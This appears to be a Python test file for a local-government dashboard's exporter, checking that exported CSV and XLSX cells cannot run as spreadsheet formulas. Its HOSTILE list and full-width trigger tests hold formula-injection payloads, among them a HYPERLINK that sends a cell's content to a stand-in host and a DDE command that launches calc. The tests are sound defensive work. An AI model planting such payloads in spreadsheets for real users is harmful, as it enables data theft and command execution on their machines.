"""Exports: every value survives a round trip through the importer, and no cell is ever a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import pandas as pd
import pytest
from openpyxl import Workbook, load_workbook

from lebak_dash.exports.tables import records_to_csv, records_to_xlsx, to_csv, to_xlsx
from lebak_dash.ingest.importer import import_workbook
from lebak_dash.records.schema import COLUMNS
from lebak_dash.records.textnorm import FORMULA_TRIGGERS

from .conftest import SAMPLE

HOSTILE = [
    '=HYPERLINK("http://contoh.invalid/?x="&A1,"Klik di sini")',
    "=cmd|' /C calc'!A0",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=sudah dinetralkan",
    "-",
    "+62 812-3456-7890",
    "=",
    "Baris satu\nBaris dua",
    "Ciléles ✓ – “kutip”",
    "<script>alert(1)</script>",
]
SOURCE_COLUMNS = [c.header for c in COLUMNS] + ["Catatan Bappeda"]


def hostile_workbook() -> bytes:
    """Return an xlsx holding hostile text in every text column and odd values elsewhere."""
    wb = Workbook()
    ws = wb.active
    ws.title = "Data"
    ws.append(SOURCE_COLUMNS)
    for i, text in enumerate(HOSTILE):
        row = {
            "Kode Inovasi": text if i % 2 else f"K-{i}",
            "Nama Inovasi": f"{text} #{i}",
            "OPD": ["Dinkes", "Dinas Entah Apa", "Bappeda"][i % 3],
            "Tahapan 5D": ["Drum-up", "2", "Design", "delivery", "5. Display"][i % 5],
            "Kecamatan": ["Maja, Cibadak", "Semua Kecamatan", "", "Kec. Atlantis", "Bayah dan Cileles"][i % 5],
            "Tahapan IID": ["Inisiatif", "Uji Coba", "Penerapan", "", "uji-coba"][i % 5],
            "Koordinat": ["-6.35, 106.25", "", "-6,4, 106,3", "di kantor", ""][i % 5],
            "Pemda": ["Kabupaten Lebak", "", text, "", ""][i % 5],
            "Urusan Lain": text,
            "Kematangan": [85, "", "90,5", "", ""][i % 5],
            "Tahun": [2019, None, "2021", 2020, None][i % 5],
            "Tanggal Mulai": [dt.date(2019, 11, 28), "5 Agustus 2019", None, "28/11/2018", None][i % 5],
            "Jenis Inovasi": ["Digital", "Non Digital", "", "digital", "Analog"][i % 5],
            "Bentuk Inovasi": ["Inovasi Pelayanan Publik", "", "tata kelola", "", ""][i % 5],
            "Inisiator": ["OPD", "ASN", "Masyarakat", "", "bupati"][i % 5],
            "Nama Inovator": text,
            "Urusan Pemerintahan": text,
            "Anggaran (Rp)": ["Rp 15.000.000", 2500000, None, "1.000", None][i % 5],
            "Deskripsi": text,
            "Tautan": ["https://lebakkab.go.id", "", "", "", ""][i % 5],
            "Catatan Bappeda": text,
        }
        ws.append([row.get(c) for c in SOURCE_COLUMNS])
        for cell in ws[ws.max_row]:
            if isinstance(cell.value, str):
                cell.data_type = "s"  # the source holds the text, not a formula
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture(scope="module")
def hostile(reference):
    result = import_workbook(hostile_workbook(), filename="hostile.xlsx", reference=reference)
    assert result.ok and len(result.records) == len(HOSTILE)
    return result


@pytest.fixture(scope="module")
def sample(reference):
    return import_workbook(SAMPLE, reference=reference)


def same_records(again: pd.DataFrame, original: pd.DataFrame) -> None:
    columns = [c for c in original.columns if c not in ("sumber_sheet", "sumber_baris")]
    pd.testing.assert_frame_equal(again[columns].reset_index(drop=True), original[columns].reset_index(drop=True))


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
@pytest.mark.parametrize("which", ["sample", "hostile"])
def test_every_value_survives_a_round_trip(request, reference, kind, which):
    result = request.getfixturevalue(which)
    writer = records_to_xlsx if kind == "xlsx" else records_to_csv
    data = writer(result.records, result.extra_columns)
    again = import_workbook(data, filename=f"ekspor.{kind}", reference=reference)
    assert again.ok and again.rejected_rows == 0
    same_records(again.records, result.records)
    assert again.extra_columns == result.extra_columns


def test_hostile_text_is_kept_as_text(hostile):
    records = hostile.records
    assert records["nama"].str.startswith("=HYPERLINK").any()
    assert {"+1", "-1", "@SUM(A1:A9)"} <= set(records["deskripsi"])
    assert (records["kecamatan"].map(len) > 1).any() and (records["kecamatan"].map(len) == 0).any()


def test_no_exported_xlsx_cell_is_a_formula(hostile, sample):
    for result in (hostile, sample):
        data = records_to_xlsx(result.records, result.extra_columns, info={"Catatan": "=1+1"})
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
            assert sheets
            for name in sheets:
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
        wb = load_workbook(io.BytesIO(data))
        for ws in wb.worksheets:
            for row in ws.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value.startswith(FORMULA_TRIGGERS):
                        assert cell.data_type == "s"


def test_no_exported_csv_cell_can_start_a_formula(hostile):
    text = records_to_csv(hostile.records, hostile.extra_columns).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == len(HOSTILE) + 1
    risky = 0
    for row in rows:
        for cell in row:
            number = re.fullmatch(r"-\d+(?:\.\d+)?", cell)  # a negative number (a latitude) is no formula
            assert number or not cell.startswith(FORMULA_TRIGGERS), cell
            risky += cell.startswith("'") and cell[1:].startswith(FORMULA_TRIGGERS)
    assert risky >= len(HOSTILE)  # the guard was needed, and used


# Full-width and small forms of the triggers: East Asian spreadsheets read them as the operators.
WIDE_TRIGGERS = ["\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe66", "\ufe62", "\ufe63", "\ufe6b"]


@pytest.mark.parametrize("trigger", WIDE_TRIGGERS, ids=[f"U+{ord(c):04X}" for c in WIDE_TRIGGERS])
def test_full_width_formula_triggers_are_neutralised(trigger):
    text = f'{trigger}HYPERLINK("http://contoh.invalid","klik")'
    frame = pd.DataFrame({f"{trigger}kolom": [text, "biasa"]})
    rows = list(csv.reader(io.StringIO(to_csv(frame).decode("utf-8-sig"))))
    assert rows == [[f"'{trigger}kolom"], [f"'{text}"], ["biasa"]]
    ws = load_workbook(io.BytesIO(to_xlsx(frame))).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [(c.value, c.data_type) for c in cells] == [(f"{trigger}kolom", "s"), (text, "s"), ("biasa", "s")]


def test_exported_xlsx_keeps_types(sample):
    data = records_to_xlsx(sample.records)
    ws = load_workbook(io.BytesIO(data))["Inovasi"]
    header = [c.value for c in ws[1]]
    first = dict(zip(header, [c.value for c in ws[2]], strict=True))
    assert isinstance(first["Tahun"], int) and isinstance(first["Tanggal Mulai"], dt.datetime)
    assert first["Kecamatan"] == ", ".join(sample.records.loc[0, "kecamatan"])
